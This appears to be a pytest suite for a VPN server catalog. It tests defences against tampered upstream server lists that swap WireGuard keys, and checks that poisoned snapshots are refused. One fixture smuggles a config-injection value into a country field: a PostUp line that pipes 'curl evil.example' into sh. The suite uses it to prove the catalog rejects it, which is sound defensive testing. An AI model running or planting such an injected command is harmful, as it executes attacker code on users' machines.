"""The attack suite against the key-swap guard: each attack is a tampered upstream (a real
HTTP server on loopback) sending lists to the real catalog, whose clock the test moves.
Every attack is held, and served only as the rules allow: after CACHE_HOLD of the same
list, or on the operator's word. Then real change flowing, and stored lists (snapshots,
Redis) checked like fetched ones."""

from __future__ import annotations

import asyncio
import base64
import json
import logging
from pathlib import Path

import httpx
import msgspec
import pytest
from conftest import FIXTURES, sloppy
from fake_upstream import FakeUpstream
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette

from draco.catalog import holds
from draco.catalog.cache import Catalog
from draco.catalog.dataset import make_dataset
from draco.catalog.reports import MemoryQuarantine
from draco.catalog.snapshot import snapshot_bytes, write_snapshot
from draco.exceptions import VPNAPIError
from draco.models import Server, encode
from draco.probe.runs import Latencies
from draco.providers import REGISTRY
from draco.settings import load
from draco.web import configs
from draco.web.errors import HANDLERS
from draco.web.routes import Api

SERVERS = 1000
TTL = 300.0
HOLD = 6 * 3600.0


class Clock:
    def __init__(self, now: float = 1_800_000_000.0):
        self.now = now

    def __call__(self) -> float:
        return self.now


def key(n: int) -> str:
    return base64.b64encode(n.to_bytes(32, "big")).decode()


def payload(entries: dict[str, tuple[int, str]]) -> bytes:
    """IVPN's servers.json: one location, a host per entry (hostname: key number, IPv4)."""
    hosts = [
        {"hostname": name, "public_key": key(k), "host": ip, "load": 50}
        for name, (k, ip) in entries.items()
    ]
    location = {"country_code": "DE", "country": "Germany", "city": "Berlin", "hosts": hosts}
    return json.dumps({"wireguard": [location]}).encode()


def ip(n: int) -> str:
    return f"198.18.{n // 250}.{n % 250 + 1}"


def fleet(size: int = SERVERS) -> dict[str, tuple[int, str]]:
    return {f"de{i}.wg.ivpn.example": (i, ip(i)) for i in range(size)}


def attacker(n: int) -> int:
    return 10_000_000 + n


class Upstream:
    """The real catalog against a fake IVPN upstream, moved along by the test's clock."""

    def __init__(self, fake: FakeUpstream, catalog: Catalog, clock: Clock):
        self.fake = fake
        self.catalog = catalog
        self.clock = clock

    async def send(self, entries: dict[str, tuple[int, str]], after: float = TTL) -> str:
        """The upstream answers `entries` to a refresh `after` seconds later."""
        self.fake.set("ok", body=payload(entries))
        self.clock.now += after
        return await self.catalog.refresh("ivpn")

    def served(self) -> dict[str, str]:
        data = self.catalog.status["ivpn"].data
        assert data is not None
        return {s.identifier: s.public_key for s in data.servers}

    def keys(self) -> set[str]:
        return set(self.served().values())


def run(scenario, snapshot_dir: Path | None = None, size: int = SERVERS, **env):
    """`scenario(upstream)` against a catalog that trusted `fleet(size)` on first use (or
    restored what `snapshot_dir` holds)."""
    fake = FakeUpstream(payload(fleet(size)))
    clock = Clock()
    values = {"IVPN_API_URL": fake.url, **env}
    if snapshot_dir:
        values["SNAPSHOT_DIR"] = str(snapshot_dir)

    async def go():
        async with httpx.AsyncClient() as client:
            catalog = Catalog(load(values), client, {"ivpn": REGISTRY["ivpn"]}, clock=clock)
            await catalog.restore()
            upstream = Upstream(fake, catalog, clock)
            try:
                if catalog.status["ivpn"].data is None:
                    assert await catalog.refresh("ivpn") == "ok"  # trust on first use
                return await scenario(upstream)
            finally:
                await catalog.close()

    try:
        return asyncio.run(go())
    finally:
        fake.stop()


ORIGINAL = {key(i) for i in range(SERVERS)}


# --- the attacks: each was accepted at once before the churn budget ------------------------


def test_rename_all():
    async def attack(upstream):
        renamed = {f"x{i}.wg.ivpn.example": (attacker(i), ip(i)) for i in range(SERVERS)}
        assert await upstream.send(renamed) == "held"
        assert upstream.keys() == ORIGINAL

    run(attack)


def test_trailing_dot_rename():
    async def attack(upstream):
        dotted = {f"{name}.": (attacker(k), a) for name, (k, a) in fleet().items()}
        assert await upstream.send(dotted) == "held"
        assert upstream.keys() == ORIGINAL

    run(attack)


def test_mixed_rename_and_rekey():
    """500 of 1,000 renamed, 100 of the rest rekeyed: 60% attacker keys."""

    async def attack(upstream):
        mixed = fleet()
        for i in range(500):
            del mixed[f"de{i}.wg.ivpn.example"]
            mixed[f"new{i}.wg.ivpn.example"] = (attacker(i), ip(i))
        for i in range(500, 600):
            mixed[f"de{i}.wg.ivpn.example"] = (attacker(i), ip(i))
        assert await upstream.send(mixed) == "held"
        assert upstream.keys() == ORIGINAL
        health = upstream.catalog.health()["ivpn"]
        assert health.held is not None
        assert (health.held.removed, health.held.added, health.held.rekeyed) == (500, 500, 100)

    run(attack)


def test_ratchet_of_five_19_percent_steps():
    async def attack(upstream):
        entries = fleet()
        outcomes = []
        for step in range(5):
            for i in range(step * 190, (step + 1) * 190):
                entries[f"de{i}.wg.ivpn.example"] = (attacker(i), ip(i))
            outcomes.append(await upstream.send(dict(entries)))
        assert outcomes == ["ok", "held", "held", "held", "held"]
        assert len(upstream.keys() - ORIGINAL) == 190  # the one step within the budget

    run(attack)


def test_shrink_then_regrow():
    async def attack(upstream):
        whole = fleet()
        half = dict(list(whole.items())[:500])
        other_half = {n: (attacker(k), a) for n, (k, a) in list(whole.items())[500:]}
        regrown = {**{n: (attacker(k), a) for n, (k, a) in half.items()}, **other_half}
        outcomes = [await upstream.send(lst) for lst in (half, other_half, regrown)]
        assert outcomes == ["held", "held", "held"]
        assert upstream.keys() == ORIGINAL

    run(attack)


def test_flood_of_new_servers():
    async def attack(upstream):
        flood = {**fleet(), **{f"z{i}.wg.ivpn.example": (attacker(i), ip(i)) for i in range(1000)}}
        assert await upstream.send(flood) == "held"
        assert len(upstream.served()) == SERVERS

    run(attack)


def test_address_swap_with_the_same_keys():
    async def attack(upstream):
        moved = {name: (k, f"203.0.113.{k % 250 + 1}") for name, (k, _) in fleet().items()}
        assert await upstream.send(moved) == "held"
        data = upstream.catalog.status["ivpn"].data
        assert {s.ipv4 for s in data.servers} == {ip(i) for i in range(SERVERS)}

    run(attack)


def test_a_swap_sent_after_the_list_went_past_cache_max_stale_is_held():
    async def attack(upstream):
        upstream.fake.set("status", status=503)
        upstream.clock.now += 86400 + 1  # a day of failures: past CACHE_MAX_STALE
        await upstream.catalog.refresh("ivpn")
        with pytest.raises(VPNAPIError):
            await upstream.catalog.get("ivpn")  # too old to serve
        swapped = {n: (attacker(k), a) for n, (k, a) in fleet().items()}
        assert await upstream.send(swapped, after=0) == "held"
        assert upstream.keys() == ORIGINAL
        with pytest.raises(VPNAPIError):  # nothing to serve: never the held list
            await upstream.catalog.get("ivpn")

    run(attack)


def swap_all(size: int) -> dict[str, tuple[int, str]]:
    return {n: (attacker(k), a) for n, (k, a) in fleet(size).items()}


def test_a_held_list_sent_every_second_is_still_held():
    async def attack(upstream):
        swapped = swap_all(100)
        outcomes = {await upstream.send(swapped, after=1.0) for _ in range(120)}
        assert outcomes == {"held"}
        assert await upstream.send(swapped, after=HOLD - 120) == "held"  # a second short
        assert upstream.keys() == {key(i) for i in range(100)}

    run(attack, size=100)


def test_the_same_held_list_past_cache_hold_is_served_and_trust_begins_from_it():
    async def attack(upstream):
        swapped = swap_all(100)
        assert await upstream.send(swapped) == "held"
        assert await upstream.send(swapped, after=HOLD) == "ok"
        assert upstream.keys() == {key(attacker(i)) for i in range(100)}
        health = upstream.catalog.health()["ivpn"]
        assert health.trust == "held long enough"
        assert health.held is None
        assert health.baseline_since == upstream.clock.now
        history = upstream.catalog.status["ivpn"].history
        changes = history.since(history.lookup(history.previous.version)).changes
        assert len(changes) == 100
        assert all(c.old.key != c.new.key for c in changes)

    run(attack, size=100)


def test_a_hold_is_logged_once_with_the_counts_and_shows_in_health(caplog):
    async def attack(upstream):
        swapped = dict(fleet(100))
        for i in range(30):
            swapped[f"de{i}.wg.ivpn.example"] = (attacker(i), ip(i))
        with caplog.at_level(logging.WARNING, "draco.catalog"):
            for _ in range(3):
                await upstream.send(swapped)
        held = upstream.catalog.health()["ivpn"].held
        assert (held.rekeyed, held.compared_with) == (30, 100)
        assert held.until - held.since == HOLD
        return [r.getMessage() for r in caplog.records if "is held" in r.getMessage()]

    messages = run(attack, size=100)
    assert len(messages) == 1
    assert "ivpn" in messages[0]
    assert "30 rekeyed" in messages[0]


@pytest.mark.parametrize("verdict", ["accept", "reject"])
def test_the_operator_settles_a_hold_through_the_snapshot_directory(tmp_path, verdict):
    """`draco hold accept|reject` leaves its word beside the snapshots; the instance reads
    it, and serves the held list at once, or refuses it whenever it is sent again."""

    async def attack(upstream):
        swapped = swap_all(100)
        assert await upstream.send(swapped) == "held"
        notice = holds.read_notice((tmp_path / "ivpn.held.json").read_bytes())
        word = holds.Verdict("ivpn", notice.digest, verdict, expires=notice.until)
        (tmp_path / "ivpn.verdict.json").write_bytes(encode(word))
        await upstream.catalog.apply_verdict("ivpn")
        assert not (tmp_path / "ivpn.held.json").exists()
        if verdict == "accept":
            assert upstream.keys() == {key(attacker(i)) for i in range(100)}
            assert upstream.catalog.health()["ivpn"].trust == "operator"
        else:
            assert upstream.keys() == {key(i) for i in range(100)}
            assert await upstream.send(swapped, after=HOLD + 1) == "refused"

    run(attack, tmp_path, size=100)


def test_a_verdict_for_another_list_or_past_its_hold_settles_nothing(tmp_path):
    async def attack(upstream):
        swapped = swap_all(100)
        assert await upstream.send(swapped) == "held"
        notice = holds.read_notice((tmp_path / "ivpn.held.json").read_bytes())
        for digest, expires in (("0" * 24, notice.until), (notice.digest, upstream.clock.now)):
            word = holds.Verdict("ivpn", digest, "accept", expires=expires)
            (tmp_path / "ivpn.verdict.json").write_bytes(encode(word))
            await upstream.catalog.apply_verdict("ivpn")
            assert upstream.keys() == {key(i) for i in range(100)}

    run(attack, tmp_path, size=100)


# --- real change still flows --------------------------------------------------------------


IVPN = {
    2022: "servers_77wghosts_2022-06-03_no-load.json",
    2023: "v5_servers_81wghosts_2023-04-12_dup-pubkey.json",
    2025: "v5_servers_90wghosts_2025-10-17.json",
}


def real(year: int) -> bytes:
    return (FIXTURES / "ivpn" / IVPN[year]).read_bytes()


def run_real(scenario, first: int):
    """`scenario(upstream)` against a catalog that trusted the real list of `first`."""
    fake = FakeUpstream(real(first))
    clock = Clock()

    async def go():
        async with httpx.AsyncClient() as client:
            settings = load({"IVPN_API_URL": fake.url})
            catalog = Catalog(settings, client, {"ivpn": REGISTRY["ivpn"]}, clock=clock)
            try:
                assert await catalog.refresh("ivpn") == "ok"
                return await scenario(Upstream(fake, catalog, clock))
            finally:
                await catalog.close()

    try:
        return asyncio.run(go())
    finally:
        fake.stop()


def test_the_real_ivpn_lists_of_2022_and_2023_follow_each_other_at_once():
    """77 hosts in June 2022, 81 in April 2023: 4 removed, 8 added, 16% of the list."""

    async def flow(upstream):
        upstream.fake.set("ok", body=real(2023))
        upstream.clock.now += TTL
        assert await upstream.catalog.refresh("ivpn") == "ok"
        return len(upstream.served())

    assert run_real(flow, 2022) == 81


def test_the_real_renumbering_of_2025_waits_for_the_hold():
    """Between April 2023 and October 2025 IVPN renumbered most of its hosts (ca01 became
    ca1...): 40 removed, 31 added, 5 rekeyed, 9 readdressed, against 81. A guard that lets
    that through at once lets a rename-all through too: it is held, and served after
    CACHE_HOLD of the same list (or on the operator's word)."""

    async def flow(upstream):
        upstream.fake.set("ok", body=real(2025))
        upstream.clock.now += TTL
        first = await upstream.catalog.refresh("ivpn")
        upstream.clock.now += HOLD
        return first, await upstream.catalog.refresh("ivpn"), len(upstream.served())

    assert run_real(flow, 2023) == ("held", "ok", 90)


# --- stored lists are checked like fetched ones -------------------------------------------


def _fields(server: Server) -> dict:
    return {f: getattr(server, f) for f in server.__struct_fields__}


def poisoned(kind: str) -> bytes:
    """A snapshot of 20 servers, with one defect of `kind` ("clean": none)."""
    servers = REGISTRY["ivpn"].parse(payload(fleet(20))).servers
    first = _fields(servers[0])
    if kind == "PostUp in a country":
        first["country"] = "Sweden\n[Interface]\nPostUp = curl evil.example | sh"
    elif kind == "non-canonical key":
        first["public_key"] = sloppy(first["public_key"])
    servers[0] = Server(**first)
    now = Clock().now  # the time the catalog will read it at
    fetched_at = now + 86400 if kind == "future fetched_at" else now - 10
    return snapshot_bytes(make_dataset("ivpn", servers, fetched_at))


POISONS = ["PostUp in a country", "future fetched_at", "non-canonical key"]


@pytest.mark.parametrize("kind", POISONS)
def test_a_poisoned_snapshot_is_refused_logged_and_the_upstream_used(tmp_path, caplog, kind):
    write_snapshot(tmp_path, "ivpn", poisoned(kind))

    async def start(upstream):
        status = upstream.catalog.status["ivpn"]
        return len(status.data.servers), status.data.provisional, status.trust.source

    with caplog.at_level(logging.WARNING, "draco.catalog"):
        found = run(start, tmp_path, size=7)
    assert found == (7, False, "first use")  # the upstream's list, trusted on first use
    assert "snapshot" in caplog.text


def test_a_clean_snapshot_is_restored_as_the_baseline(tmp_path):
    write_snapshot(tmp_path, "ivpn", poisoned("clean"))

    async def start(upstream):
        status = upstream.catalog.status["ivpn"]
        return len(status.data.servers), status.trust.source

    assert run(start, tmp_path) == (20, "snapshot")


def test_the_window_outlives_a_restart_through_the_snapshot(tmp_path):
    """A ratchet across restarts: the window's baseline is stored with the list, so the
    step past the budget is held after a restart too."""

    async def before(upstream):
        entries = fleet(100)
        for i in range(19):
            entries[f"de{i}.wg.ivpn.example"] = (attacker(i), ip(i))
        assert await upstream.send(entries) == "ok"
        return entries

    entries = run(before, tmp_path, size=100)

    async def after(upstream):
        more = dict(entries)
        for i in range(19, 38):
            more[f"de{i}.wg.ivpn.example"] = (attacker(i), ip(i))
        return await upstream.send(more)

    assert run(after, tmp_path, size=100) == "held"


# --- the config text: defence in depth where it is written ---------------------------------

PROVIDER = REGISTRY["mullvad"]
HOSTNAMED = REGISTRY["surfshark"]  # its Endpoint is the hostname
WRITTEN = ("[Peer]", "# ", "PublicKey = ", "Endpoint = ", "AllowedIPs = ")


@settings(max_examples=400, deadline=None)
@given(
    country=st.text(max_size=30),
    identifier=st.text(min_size=1, max_size=30),
    city=st.one_of(st.none(), st.text(max_size=20)),
    ipv4=st.one_of(st.none(), st.text(max_size=20), st.sampled_from(["192.0.2.1", "10.0.0.1"])),
    ipv6=st.one_of(st.none(), st.text(max_size=20), st.sampled_from(["2001:db8::1", "fe80::1%a"])),
    asked=st.tuples(st.booleans(), st.sampled_from([None, "ipv4", "ipv6"])),
)
def test_the_wg_quick_text_never_carries_a_line_the_renderer_did_not_write(
    country, identifier, city, ipv4, ipv6, asked
):
    """Any field string, as if every check before the renderer had let it through."""
    hostnamed, family = asked
    server = Server("mullvad", country, "SE", identifier, key(7), city=city, ipv4=ipv4, ipv6=ipv6)
    provider = HOSTNAMED if hostnamed else PROVIDER
    try:
        text = configs.wg_quick(configs.peering(server, provider, family=family))
    except configs.UnwritableError:
        return
    lines = text.split("\n")
    assert lines[-1] == ""
    assert len(lines) == 6
    assert [line.startswith(prefix) for line, prefix in zip(lines, WRITTEN, strict=False)] == [
        True
    ] * 5
    assert text.count("[") == 1 + (family == "ipv6")  # [Peer], and an IPv6 Endpoint's
    assert "%" not in text
    assert all(line.isprintable() for line in lines)
    assert text.splitlines() == lines[:-1]  # no other line break, whatever Python counts as one


@pytest.mark.parametrize(
    ("identifier", "ipv4", "provider", "endpoint"),
    [
        ("se-sto-wg-001", "192.0.2.7", PROVIDER, "192.0.2.7:51820"),
        ("se-sto-wg-001", None, PROVIDER, None),  # a bare name: the client's search path
        ("at-1.prod.surfshark.example", None, HOSTNAMED, "at-1.prod.surfshark.example:51820"),
        ("at-1", None, HOSTNAMED, None),
        ("at_1.example", None, HOSTNAMED, None),
        ("a.example:53", None, HOSTNAMED, None),
    ],
)
def test_an_endpoint_is_an_address_or_a_fully_qualified_name(identifier, ipv4, provider, endpoint):
    server = Server(provider.name, "Sweden", "SE", identifier, key(7), ipv4=ipv4)
    if endpoint is None:
        with pytest.raises(configs.UnwritableError):
            configs.peering(server, provider)
    else:
        assert configs.peering(server, provider).endpoint == endpoint


@pytest.mark.parametrize(
    ("ipv6", "endpoint"),
    [
        ("2001:db8::7", "[2001:db8::7]:51820"),
        ("2001:DB8:0::7", "[2001:db8::7]:51820"),  # written as ipaddress compresses it
        ("fe80::1%eth0", None),  # a zone: a link of the client's own
        ("192.0.2.7", None),
        (None, None),
    ],
)
def test_an_ipv6_endpoint_is_an_address_in_brackets(ipv6, endpoint):
    server = Server("mullvad", "Sweden", "SE", "se-sto-wg-001", key(7), ipv4="192.0.2.7", ipv6=ipv6)
    if endpoint is None:
        with pytest.raises(configs.UnwritableError):
            configs.peering(server, PROVIDER, family="ipv6")
    else:
        assert configs.peering(server, PROVIDER, family="ipv6").endpoint == endpoint


def test_a_server_without_an_endpoint_is_a_404_with_the_reason(tmp_path):
    """A snapshot cannot carry such a server (its fields are checked), so the catalog is
    given one directly, as a future parser might."""

    async def scenario(upstream):
        data = upstream.catalog.status["ivpn"].data
        bare = msgspec.structs.replace(data.servers[0], identifier="bare", ipv4=None)
        upstream.catalog.status["ivpn"].data = make_dataset("ivpn", [bare], data.fetched_at)
        settings = upstream.catalog.settings
        api = Api(settings, upstream.catalog, Latencies(settings), ["tcp"], MemoryQuarantine(60))
        app = Starlette(routes=[e.route() for e in api.endpoints], exception_handlers=HANDLERS)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://draco") as client:
            return await client.get("/api/ivpn/servers/bare/wireguard")

    answer = run(scenario, size=3)
    assert answer.status_code == 404
    assert "fully qualified name" in answer.json()["message"]


def test_a_non_canonical_key_is_refused_by_every_parser():
    """`wg` refuses base64 whose spare bits are set: the same 32 bytes, another spelling."""
    canonical = key(7)
    entries = {"de1.wg.ivpn.example": (7, ip(1)), "de2.wg.ivpn.example": (8, ip(2))}
    body = payload(entries).replace(canonical.encode(), sloppy(canonical).encode())
    parsed = REGISTRY["ivpn"].parse(body)
    assert [s.identifier for s in parsed.servers] == ["de2.wg.ivpn.example"]
    assert parsed.skipped == 1
